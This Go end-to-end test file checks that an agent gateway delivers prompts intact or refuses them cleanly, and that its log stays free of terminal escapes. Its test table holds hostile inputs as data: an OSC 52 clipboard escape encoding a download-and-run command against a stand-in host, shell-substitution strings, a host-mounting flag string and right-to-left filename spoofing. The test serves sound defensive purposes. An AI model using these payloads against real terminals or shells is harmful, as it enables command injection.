// SPDX-License-Identifier: Apache-2.0

//go:build unix

package e2e

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// What agents say of their prompts: a hash and nothing else.
const (
	hashStdin    = "sha256sum | tr -d ' \\n-'\n"
	hashArgument = "printf %s \"$1\" | sha256sum | tr -d ' \\n-'\n"
)

// argument returns the runtime of an agent that gets its prompt as an argument.
func argument(script string) string {
	return fmt.Sprintf("process {\n\t\t\t\tcommand sh %q\n\t\t\t}", script)
}

// B2: a prompt reaches the agent to the byte, or is refused with a clean error;
// and the log holds nothing of it that a terminal would obey.
func TestB2Prompts(t *testing.T) {
	t.Parallel()
	f := startFront(t, "\tlog {\n\t\tlevel DEBUG\n\t}\n", "log\n\tagentfm {\n\t\tapi_keys "+testKey+"\n\t}",
		agent("stdin", "Stdin", "stdin", command(writeScript(t, hashStdin))),
		agent("argument", "Argument", "argument", argument(writeScript(t, hashArgument))))
	f.awaitWorkers(2)
	ids := map[string]string{"stdin": f.workerID("Stdin"), "argument": f.workerID("Argument")}
	const tooLong, invalid, none = "context_length_exceeded", "invalid_request_error", "prompt_required"
	for _, row := range []struct{ name, prompt, argument, stdin string }{ // codes; empty for served
		{"empty", "", none, none},
		{"one byte", "x", "", ""},
		{"131,071 bytes", strings.Repeat("x", 131_071), "", ""},
		{"131,072 bytes", strings.Repeat("x", 131_072), tooLong, ""},
		{"131,071 bytes of characters", strings.Repeat("é", 65_535) + "x", "", ""},
		{"131,072 bytes of characters", strings.Repeat("é", 65_536), tooLong, ""},
		{"1,000,000 bytes", strings.Repeat("y", 1_000_000), tooLong, ""},
		{"1 MiB", strings.Repeat("x", 1<<20), tooLong, tooLong}, // its frame is over 1 MiB
		{"8 MiB", strings.Repeat("x", 8<<20), tooLong, tooLong},
		{"NUL", "a\x00b", invalid, invalid},
		{"carriage returns", "\r\r\na\rb\r\n\r", "", ""},
		{"newlines at the ends", "\n\n\nx\n\n\n", "", ""},
		{"ANSI", "\x1b[2J\x1b[31mred\x1b[0m\a\b\x7f", "", ""},
		{"OSC 52", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\a\x1b]0;title\x1b\\", "", ""},
		{"C1", "\u009b31m\u009d52;c;eA==\u009c", "", ""},
		{"a flag", "--help", "", ""},
		{"flags", "-c 'touch /tmp/owned' --privileged -v /:/host", "", ""},
		{"a minus", "-", "", ""},
		{"two minus", "--", "", ""},
		{"shell", "$(id) `id` ${HOME} ; id | cat && exit 1 # \\ ' \"", "", ""},
		{"glob", "* ? [a-z] ~ {a,b}", "", ""},
		{"marker", "[AGENTFM: NO_FILES]", "", ""},
		{"marker lines", "\n[AGENTFM: NO_FILES]\n[AGENTFM: FILES_INCOMING]\n[AGENTFM: ERROR x]\n", "", ""},
		{"right to left", "\u202egnp.exe\u202c \u2066x\u2069 שלום مرحبا", "", ""},
		{"placeholders", "{http.request.header.Authorization} {env.HOME} {$HOME}", "", ""},
		{"JSON", `{"model":"x"}` + "\n" + `"}],"a":"`, "", ""},
		{"byte order mark", "\ufeffx\ufffe\uffff\U0010ffff", "", ""},
		{"spaces", " \t\v\f\u00a0\u2028\u2029 ", "", ""},
	} {
		for kind, code := range map[string]string{"argument": row.argument, "stdin": row.stdin} {
			for _, route := range []string{"/v1/completions", "/api/execute"} {
				t.Run(strings.Join([]string{kind, route[1:3], row.name}, "/"), func(t *testing.T) {
					f.wantPrompt(t, route, map[string]string{"model": kind, "worker_id": ids[kind], "prompt": row.prompt}, code)
				})
			}
		}
	}
	// What strangers write elsewhere ends in the log, too.
	for _, path := range []string{"/v1/models/%1b%5d52;c;eA==%07", "/v1/%E2%80%AE%0d%0afake", "/api/workers?x=%1b[31m"} {
		wantAsk(t, httpClient, http.MethodGet, f.url+path, "", append(bearer(testKey), "User-Agent", "x\u009b31m\u202e", "X-AgentFM-Worker", "\u202e")...)
	}
	body, err := json.Marshal(map[string]string{"model": "\x1b]52;c;eA==\a\u202e\u009b", "prompt": "x"})
	if err != nil {
		t.Fatal(err)
	}
	wantAsk(t, httpClient, http.MethodPost, f.url+"/v1/completions", string(body), bearer(testKey)...).failed(t, 404, "model_not_found")
	f.wantCleanLog(t)
}

// wantPrompt wants the hash of the prompt back, or the error of that code.
func (f *front) wantPrompt(t *testing.T, route string, request map[string]string, code string) {
	t.Helper()
	body, err := json.Marshal(request)
	if err != nil {
		t.Fatal(err)
	}
	a := wantAsk(t, httpClient, http.MethodPost, f.url+route, string(body), bearer(testKey)...)
	if code != "" {
		a.failed(t, 400, code)
		return
	}
	want := fmt.Sprintf("%x", sha256.Sum256([]byte(request["prompt"])))
	got, _ := strings.CutSuffix(a.body, noFiles)
	if route != "/api/execute" {
		var whole struct{ Choices []struct{ Text string } }
		if err := json.Unmarshal([]byte(a.body), &whole); err != nil || len(whole.Choices) != 1 {
			t.Fatalf("%d %.300q (%v)", a.status, a.body, err)
		}
		got = whole.Choices[0].Text
	}
	if a.status != 200 || got != want {
		t.Errorf("status %d, got %.300q, want %s", a.status, got, want)
	}
}
